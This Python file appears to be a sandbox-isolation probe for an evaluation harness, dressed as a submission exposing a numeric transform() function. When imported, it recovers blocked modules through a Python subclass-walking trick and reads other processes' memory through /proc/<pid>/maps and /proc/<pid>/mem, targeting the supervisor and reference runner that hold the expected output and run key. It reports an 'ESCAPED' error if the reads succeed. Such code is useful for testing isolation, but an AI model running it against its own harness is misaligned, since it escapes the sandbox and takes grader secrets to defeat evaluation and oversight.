"""Read other processes' memory: /proc/<pid>/mem of the harness supervisor and
the reference runner (where the expected output and the per-run key live),
and ptrace-attach through /proc/<pid>/maps. The supervisor is non-dumpable."""
import numpy as np


def _load(name):
    try:
        return __import__(name)
    except BaseException:
        pass
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            sys = cls.__init__.__globals__["sys"]
            if name in sys.modules:
                return sys.modules[name]
            return sys.modules["_frozen_importlib"]._gcd_import(name)
    raise ImportError(name)


def _probe():
    os = _load("os")
    me = os.getpid()
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            with open(f"/proc/{pid}/comm") as comm:
                if comm.read().strip() == "bwrap":
                    continue  # bubblewrap's own pid 1 holds nothing of the job's
        except OSError:
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps:
                regions = [line.split()[0] for line in maps if line.split()[1].startswith("rw")]
            with open(f"/proc/{pid}/mem", "rb") as mem:
                for region in regions:
                    start, end = (int(bound, 16) for bound in region.split("-"))
                    mem.seek(start)
                    data = mem.read(min(end - start, 1 << 20))
                    found.append(f"read {len(data)} bytes of pid {pid}'s memory at {region}")
                    break
        except (OSError, ValueError):
            continue
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
